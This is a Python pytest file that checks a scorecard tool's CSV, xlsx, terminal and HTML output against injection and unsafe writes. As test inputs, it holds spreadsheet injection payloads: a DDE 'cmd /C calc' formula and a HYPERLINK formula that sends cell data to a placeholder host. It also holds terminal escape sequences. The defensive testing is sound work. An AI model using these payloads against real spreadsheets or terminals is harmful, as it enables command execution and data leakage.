"""What we write is safe: no input text becomes a formula, `-o` replaces only regular files,
a failed write is a plain message, messages are one line without raw control characters."""

from __future__ import annotations

import csv
import errno
import io
import os
import subprocess
import sys
from pathlib import Path

import attrs
import pytest

from cpg_score import InputError, Problem, Scorecard, load_grid, load_results, score
from cpg_score._safe_text import csv_cell, escape_controls, xlsx_text
from cpg_score.cli import main
from cpg_score.reports import render_bytes, render_compare

from .conftest import GRID_2019, OBJECTIVES, RESULTS_2019

HYPERLINK = '=HYPERLINK("http://example.test/?"&A1,"x")'

_GRID = """
id: g
label: "+grid"
period: 2020
total_points: 100
policy: {neutralisation: zero}
axes:
  - id: a1
    label: '@axis'
    objectives:
      - id: o1
        label: 'LABEL'
        points: 60
      - {id: o2, label: "-10 points", points: 40}
"""

_RESULTS = """
entity: {id: e, label: "=1+1"}
grid: g
period: 2020
results:
  o1: 0.5
  o2: {neutralised: "=cmd|' /C calc'!A0"}
"""


def _card(label: str = HYPERLINK) -> Scorecard:
    grid = load_grid(_GRID.replace("'LABEL'", "'" + label.replace("'", "''") + "'"))
    return score(grid, load_results(_RESULTS, grid))


def _with_label(card: Scorecard, label: str) -> Scorecard:
    """The card with objective o1 relabelled (labels the reader might refuse, for defence in depth)."""
    axis = card.axes[0]
    objectives = (attrs.evolve(axis.objectives[0], label=label), *axis.objectives[1:])
    return attrs.evolve(card, axes=(attrs.evolve(axis, objectives=objectives),))


# -- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1", "'+33 1"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        ("-1.50", "-1.50"),
        ("-1.5e3", "'-1.5e3"),
        ("-1+2", "'-1+2"),
    ],
)
def test_csv_cell_neutralises_formula_prefixes(value: str, expected: str) -> None:
    assert expected == csv_cell(value)


def test_csv_cell_keeps_numbers_numbers() -> None:
    from decimal import Decimal

    assert Decimal("-1.50") == csv_cell(Decimal("-1.50"))


def test_csv_report_neutralises_input_text() -> None:
    rows = list(csv.reader(io.StringIO(render_compare([_card()], "csv", "en"))))
    objective = rows[1]
    assert ["e", "'" + HYPERLINK] == [objective[0], objective[5]]
    assert "'@axis" == rows[3][5]
    assert "'-10 points" == rows[2][5]
    assert "'=cmd|' /C calc'!A0" == rows[2][14]


def test_csv_numbers_stay_plain_numbers() -> None:
    rows = list(csv.reader(io.StringIO(render_compare([_card()], "csv", "en"))))
    assert ["50.00", "30.00", "60.00"] == rows[1][10:13]


# -- xlsx --------------------------------------------------------------------------------------

openpyxl = pytest.importorskip("openpyxl")


def _book(card: Scorecard, other: Scorecard | None = None):  # type: ignore[no-untyped-def]
    cards = [card] if other is None else [card, other]
    return openpyxl.load_workbook(io.BytesIO(render_bytes(cards, "xlsx", "en")))


def test_xlsx_formula_label_is_a_string_cell() -> None:
    cell = _book(_card())["e"]["B9"]
    assert ("s", HYPERLINK) == (cell.data_type, cell.value)


def test_xlsx_formula_label_has_the_quote_prefix() -> None:
    assert _book(_card())["e"]["B9"].quotePrefix


def test_xlsx_every_input_text_is_a_string_cell() -> None:
    ws = _book(_card())["e"]
    cells = {ws["B8"].value, ws["B10"].value, ws["I10"].value}
    assert {"@axis", "-10 points", "=cmd|' /C calc'!A0"} == cells
    assert {"s"} == {ws[c].data_type for c in ("B8", "B10", "I10")}


def test_xlsx_entity_label_of_the_meta_block_is_text() -> None:
    ws = _book(_card())["e"]
    assert ("s", "=1+1") == (ws["B4"].data_type, ws["B4"].value)


def test_xlsx_error_code_label_stays_text() -> None:
    cell = _book(_card("#N/A"))["e"]["B9"]
    assert ("s", "#N/A") == (cell.data_type, cell.value)


def test_xlsx_own_formulas_stay_formulas() -> None:
    ws = _book(_card())["e"]
    assert [("f", "=ROUND(ROUND(P9,10),2)"), ("f", "=SUM(P9,P10)")] == [
        (ws["G9"].data_type, ws["G9"].value),
        (ws["P8"].data_type, ws["P8"].value),
    ]


def test_xlsx_numbers_stay_numbers() -> None:
    ws = _book(_card())["e"]
    assert ("n", 0.5) == (ws["C9"].data_type, ws["C9"].value)


def test_xlsx_comparison_sheet_labels_are_text() -> None:
    card = _card()
    other = attrs.evolve(card, entity=attrs.evolve(card.entity, id="f", label="@other"))
    ws = _book(card, other)["Comparison"]
    assert [("s", HYPERLINK), ("s", "=1+1 — Rate"), ("s", "@other — Rate")] == [
        (ws["B3"].data_type, ws["B3"].value),
        (ws["C1"].data_type, ws["C1"].value),
        (ws["F1"].data_type, ws["F1"].value),
    ]


def test_xlsx_comparison_sheet_keeps_its_references() -> None:
    card = _card()
    other = attrs.evolve(card, entity=attrs.evolve(card.entity, id="f"))
    ws = _book(card, other)["Comparison"]
    assert ("f", "='f'!F9") == (ws["F3"].data_type, ws["F3"].value)


def test_xlsx_control_characters_are_escaped_not_fatal() -> None:
    ws = _book(_with_label(_card(), "bell\x07 esc\x1b[31m"))["e"]
    assert "bell\\x07 esc\\x1b[31m" == ws["B9"].value


def test_xlsx_text_keeps_tab_and_newline() -> None:
    assert "a\tb\nc\\x00" == xlsx_text("a\tb\nc\x00")


# -- terminal ----------------------------------------------------------------------------------


def test_escape_controls() -> None:
    assert "a\\x1b[2Jb\\x00c\\x0d\\x0a\\u202e\\x9b" == escape_controls("a\x1b[2Jb\x00c\r\n\u202e\x9b")


def test_table_escapes_control_characters_in_labels() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b[2J\rlabel")], "table", "en")
    assert "evil\\x1b[2J label" in text and "\x1b" not in text and "\r" not in text


def test_table_shows_a_label_of_several_lines_on_one_line() -> None:
    text = render_compare([_with_label(_card(), "Axe un,\nsuite")], "table", "en")
    assert "Axe un, suite" in text and "\\x0a" not in text


def test_colored_table_keeps_its_own_colours() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b[2J")], "table", "en", color=True)
    assert "\x1b[1m" in text and "\x1b[2J" not in text


def test_markdown_escapes_control_characters_in_labels() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b]0;title\x07")], "markdown", "en")
    assert "evil\\x1b]0;title\\x07" in text and "\x1b" not in text


# -- -o onto what is not a regular file ----------------------------------------------------------

EXAMPLE = ["score", "--example", "drsm-centre-ouest-2019"]
NOT_REGULAR = "the output goes to a new or regular file"
needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need POSIX")


@needs_fifo
def test_output_onto_a_named_pipe_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert 2 == main([*EXAMPLE, "-o", str(fifo)])
    assert f"{fifo}: refusing to replace a named pipe: {NOT_REGULAR}\n" == capsys.readouterr().err


@needs_fifo
def test_output_through_a_link_to_a_named_pipe_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo, link = tmp_path / "fifo", tmp_path / "link"
    os.mkfifo(fifo)
    link.symlink_to(fifo)
    assert 2 == main([*EXAMPLE, "-o", str(link), "-f", "xlsx"])
    expected = f"{link}: refusing to write through a symbolic link to a named pipe: {NOT_REGULAR}\n"
    assert expected == capsys.readouterr().err


@needs_fifo
def test_refused_output_leaves_the_pipe_and_the_link(tmp_path: Path) -> None:
    fifo, link = tmp_path / "fifo", tmp_path / "link"
    os.mkfifo(fifo)
    link.symlink_to(fifo)
    main([*EXAMPLE, "-o", str(link)])
    assert (True, True) == (link.is_symlink(), fifo.is_fifo())


def test_output_onto_a_directory_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert 2 == main(
        [
            "explain",
            str(GRID_2019),
            str(RESULTS_2019 / "drsm-aquitaine.yaml"),
            "publics-fragilises",
            "-o",
            str(tmp_path),
        ]
    )
    assert f"{tmp_path}: refusing to replace a directory: {NOT_REGULAR}\n" == capsys.readouterr().err


def test_output_through_a_dangling_link_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "nothing")
    assert 2 == main([*EXAMPLE, "-o", str(link)])
    expected = f"{link}: refusing to write through a symbolic link to nothing: give a regular file\n"
    assert expected == capsys.readouterr().err


def test_output_through_a_link_to_a_regular_file_writes_the_file(tmp_path: Path) -> None:
    target, link = tmp_path / "report.md", tmp_path / "link.md"
    target.write_text("old\n")
    link.symlink_to(target)
    assert 0 == main([*EXAMPLE, "-f", "markdown", "-o", str(link)])
    assert (True, True) == (link.is_symlink(), target.read_text().startswith("## DRSM Centre-Ouest"))


def test_output_with_a_nul_byte_is_a_message(capsys: pytest.CaptureFixture[str]) -> None:
    assert 2 == main([*EXAMPLE, "-o", "out\x00.txt"])
    assert "out\\x00.txt: cannot write: embedded null byte\n" == capsys.readouterr().err


# -- failed writes -------------------------------------------------------------------------------


def test_full_disk_on_a_file_is_a_plain_message(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr("cpg_score.io.output.os.fsync", full)
    out = tmp_path / "report.txt"
    assert 2 == main([*EXAMPLE, "-o", str(out)])
    assert f"{out}: cannot write: {os.strerror(errno.ENOSPC)}\n" == capsys.readouterr().err
    assert [] == list(tmp_path.iterdir())


class _Full(io.StringIO):
    def write(self, text: str) -> int:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_full_disk_on_standard_output_is_a_plain_message(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", _Full())
    assert 2 == main(EXAMPLE)
    assert f"cannot write to standard output: {os.strerror(errno.ENOSPC)}\n" == capsys.readouterr().err


def test_full_disk_under_print_is_a_plain_message(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", _Full())
    assert 2 == main(["examples"])
    assert f"cannot write to standard output: {os.strerror(errno.ENOSPC)}\n" == capsys.readouterr().err


def test_closed_standard_output_is_a_plain_message(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    assert 2 == main(EXAMPLE)
    assert "cannot write to standard output: it is closed\n" == capsys.readouterr().err


def _cli(*args: str, **kwargs: object) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
    return subprocess.run([sys.executable, "-m", "cpg_score.cli", *args], env=env, check=False, **kwargs)  # type: ignore[call-overload, no-any-return]


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_full_standard_output_in_a_process() -> None:
    with open("/dev/full", "w") as full:
        done = _cli(*EXAMPLE, stdout=full, stderr=subprocess.PIPE)
    assert (2, f"cannot write to standard output: {os.strerror(errno.ENOSPC)}\n") == (
        done.returncode,
        done.stderr.decode(),
    )


def test_closed_standard_output_in_a_process() -> None:
    done = _cli(*EXAMPLE, stderr=subprocess.PIPE, preexec_fn=lambda: os.close(1))
    assert (2, "cannot write to standard output: it is closed\n") == (done.returncode, done.stderr.decode())


def test_broken_pipe_is_quiet() -> None:
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "src")}
    command = [sys.executable, "-m", "cpg_score.cli", *EXAMPLE, "-f", "json"]
    with subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None and process.stderr is not None
        process.stdout.close()
        error = process.stderr.read()
        code = process.wait()
    assert (0, b"") == (code, error)


# -- reading limits on every command that reads files ---------------------------------------------


def _too_large(path: Path) -> str:
    size = path.stat().st_size
    return (
        f"{path}:1:1: file too large: {size} bytes, more than max_bytes = 100 (raise it with --max-bytes) @ $"
    )


AQUITAINE = RESULTS_2019 / "drsm-aquitaine.yaml"
TREE = OBJECTIVES / "entities" / "nouvelle-aquitaine.yaml"


@pytest.mark.parametrize(
    ("argv", "first"),
    [
        (["score", str(GRID_2019), str(AQUITAINE)], GRID_2019),
        (["validate", str(AQUITAINE)], AQUITAINE),
        (["compare", str(GRID_2019), str(AQUITAINE)], GRID_2019),
        (["explain", str(GRID_2019), str(AQUITAINE), "publics-fragilises"], GRID_2019),
        (["check", str(AQUITAINE)], AQUITAINE),
        (["consolidate", str(TREE), str(RESULTS_2019 / "elsm")], TREE),
    ],
)
def test_every_reading_command_takes_the_reading_limits(
    argv: list[str], first: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert 2 == main([*argv, "--max-bytes", "100", "--lang", "en"])
    assert _too_large(first) == capsys.readouterr().err.splitlines()[0]


# -- messages: one problem a line, no raw control character ----------------------------------------


def test_each_problem_on_its_own_escaped_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    problems = [
        Problem(message="bad \x1b[31mvalue\nsecond\x00", file="g.yaml", line=1, column=2, path="$.a"),
        Problem(message="next", file="g.yaml", line=3, column=4, path="$.b"),
    ]

    def refuse(*_args: object, **_kwargs: object) -> None:
        raise InputError(problems)

    monkeypatch.setattr("cpg_score.cli._files.load_grid", refuse)
    assert 2 == main(["score", "g.yaml", "r.yaml"])
    # A Problem folds its line breaks into spaces; the CLI escapes what control characters remain.
    expected = "g.yaml:1:2: bad \\x1b[31mvalue second\\x00 @ $.a\ng.yaml:3:4: next @ $.b\n"
    assert expected == capsys.readouterr().err


def test_validate_prints_each_problem_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    strange = tmp_path / "a\x1bb.yaml"
    strange.write_text("id: x\n")
    assert 2 == main(["validate", "--lang", "en", str(strange)])
    err = capsys.readouterr().err
    assert (1, True) == (
        err.count("\n"),
        err.startswith(f"{tmp_path}/a\\x1bb.yaml: not a file cpg-score knows: "),
    )


def test_internal_error_message_is_escaped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def crash(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("boom\x1b[2J\nline")

    monkeypatch.setattr("cpg_score.cli._files.load_grid", crash)
    assert 1 == main(["score", "--lang", "en", "g.yaml", "r.yaml"])
    expected = (
        "cpg-score: internal error: RuntimeError: boom\\x1b[2J\\x0aline "
        "(set CPG_SCORE_DEBUG=1 for the traceback, and please report it)\n"
    )
    assert expected == capsys.readouterr().err


# -- HTML at scale: charts within MAX_BARS, said on the page --------------------------------------


def _big_card(axes: int, per_axis: int) -> Scorecard:
    lines = ["id: big", "label: Big", "period: 2020", f"total_points: {axes * per_axis}", "axes:"]
    values = ["entity: {id: e, label: E}", "grid: big", "period: 2020", "results:"]
    for a in range(axes):
        lines += [f"  - id: a{a}", f"    label: Axis {a}", "    objectives:"]
        for o in range(per_axis):
            lines.append(f"      - {{id: o{a}-{o}, label: Objective {a}-{o}, points: 1}}")
            values.append(f"  o{a}-{o}: 0.5")
    grid = load_grid("\n".join(lines) + "\n")
    return score(grid, load_results("\n".join(values) + "\n", grid))


@pytest.fixture(scope="module")
def many_objectives() -> Scorecard:
    return _big_card(5, 60)


@pytest.fixture(scope="module")
def many_axes() -> Scorecard:
    return _big_card(300, 1)


def test_points_chart_level() -> None:
    from cpg_score.reports import points_chart_level

    assert ["objective", "axis", None] == [
        points_chart_level([_big_card(2, 3)]),
        points_chart_level([_big_card(5, 60)]),
        points_chart_level([_big_card(300, 1)]),
    ]


def test_html_with_many_objectives_charts_the_axes(many_objectives: Scorecard) -> None:
    pytest.importorskip("matplotlib")
    page = render_compare([many_objectives], "html", "en")
    note = (
        '<p class="chart-note" id="note-points_by_axis">The points chart shows the axes: 300 objectives '
        "would make more than 240 bars, unreadable. The table gives every objective.</p>"
    )
    assert (True, 1, 1) == (
        note in page,
        page.count('<svg id="chart-points"'),
        page.count('<svg id="chart-axes"'),
    )


def test_html_with_many_axes_draws_no_bar_chart(many_axes: Scorecard) -> None:
    pytest.importorskip("matplotlib")
    page = render_compare([many_axes], "html", "fr")
    notes = [
        '<p class="chart-note" id="note-points_none">Pas de graphique des points : 300 axes feraient plus '
        "de 240 barres, illisibles. Le tableau donne tous les chiffres.</p>",
        '<p class="chart-note" id="note-axes_none">Pas de graphique des axes : 300 axes feraient plus '
        "de 240 barres, illisibles. Le tableau donne tous les chiffres.</p>",
    ]
    assert ([True, True], 0) == ([n in page for n in notes], page.count("<svg"))


def test_html_table_keeps_every_objective(many_axes: Scorecard) -> None:
    page = render_compare([many_axes], "html", "en")
    assert 300 == page.count('<tr class="objective"')


def test_points_chart_svg_refuses_too_many_bars(many_axes: Scorecard) -> None:
    pytest.importorskip("matplotlib")
    from cpg_score.reports import points_chart_svg

    with pytest.raises(ValueError, match="too many axes for a points chart: more than 240 bars"):
        points_chart_svg([many_axes])


# -- warnings stay off stderr -----------------------------------------------------------------------


def test_chart_warnings_and_log_are_kept_quiet(caplog: pytest.LogCaptureFixture) -> None:
    pytest.importorskip("matplotlib")
    import logging
    import warnings

    from cpg_score.reports._charts import _figure, _svg

    def draw():  # type: ignore[no-untyped-def]
        warnings.warn("a warning while drawing", UserWarning, stacklevel=1)
        logging.getLogger("matplotlib.font_manager").warning("findfont: a log line")
        return _figure(2.0, 2.0)

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        _svg(draw, "chart-test")
    assert ([], []) == (caught, caplog.records)


def test_html_report_run_prints_nothing_on_stderr() -> None:
    pytest.importorskip("matplotlib")
    done = _cli(*EXAMPLE, "-f", "html", stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    assert (0, b"") == (done.returncode, done.stderr)


def test_output_dir_that_is_a_file_is_a_plain_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    taken = tmp_path / "taken"
    taken.write_text("")
    grid = str(OBJECTIVES / "elsm-2019-local.yaml")
    argv = ["consolidate", str(TREE), str(RESULTS_2019 / "elsm"), "--grid", grid, "--output-dir", str(taken)]
    assert 2 == main([*argv, "--lang", "en"])
    assert f"{taken}: not a directory: --output-dir names a folder\n" == capsys.readouterr().err


def test_terminal_text_keeps_lines_and_tabs() -> None:
    from cpg_score._safe_text import terminal_text

    assert "a\tb\nc\\x1b[2J\\x0d\\x07\n" == terminal_text("a\tb\nc\x1b[2J\r\x07\n")


def _text(*_args: object) -> str:
    return "label \x1b]0;pwned\x07 here\n"


def test_explain_text_escapes_control_characters(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("cpg_score.cli._reports.render", _text)
    assert 0 == main(["explain", str(GRID_2019), str(AQUITAINE), "publics-fragilises"])
    assert "label \\x1b]0;pwned\\x07 here\n" == capsys.readouterr().out


def test_check_text_escapes_control_characters(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("cpg_score.cli._reports.render", _text)
    assert 0 == main(["check", str(AQUITAINE)])
    assert "label \\x1b]0;pwned\\x07 here\n" == capsys.readouterr().out


# -- simulation tables ---------------------------------------------------------------------------


def test_a_scenario_label_never_becomes_a_formula_in_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A base named in a file must lie near it: the base is copied beside the scenario.
    base = tmp_path / "base.yaml"
    base.write_text((RESULTS_2019 / "drsm-centre-ouest.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    scenario = tmp_path / "s.yaml"
    scenario.write_text('label: "=1+2"\nbase: base.yaml\noverrides:\n  fraude: 0.9\n', encoding="utf-8")
    assert 0 == main(["whatif", "--lang", "en", str(GRID_2019), str(scenario), "--format", "csv"])
    header = next(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert ["id", "Label", "Base", "'=1+2", "Change"] == header


def test_a_scenario_label_reaches_the_terminal_escaped_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = tmp_path / "base.yaml"
    base.write_text((RESULTS_2019 / "drsm-centre-ouest.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    scenario = tmp_path / "s.yaml"
    scenario.write_text(
        'label: "Plan\\u202e A\\nsuite"\nbase: base.yaml\noverrides:\n  fraude: 0.9\n', encoding="utf-8"
    )
    assert 0 == main(["whatif", str(GRID_2019), str(scenario)])
    out = capsys.readouterr().out
    assert (True, False, False) == ("Plan\\u202e A suite" in out, "\u202e" in out, "A\nsuite" in out)
